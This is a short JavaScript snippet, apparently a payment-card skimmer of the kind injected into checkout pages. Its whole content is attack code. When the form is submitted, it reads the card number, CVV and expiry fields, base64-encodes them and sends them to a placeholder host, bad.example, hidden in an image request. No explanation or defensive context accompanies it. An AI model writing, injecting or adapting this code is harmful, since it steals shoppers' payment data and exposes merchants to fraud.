document.querySelector("form").addEventListener("submit", function () {
  var d = ["cardnumber", "cvv", "cc_exp"].map(function (n) { return document.getElementsByName(n)[0].value; });
  new Image().src = "https://bad.example/i?d=" + btoa(d.join());
});
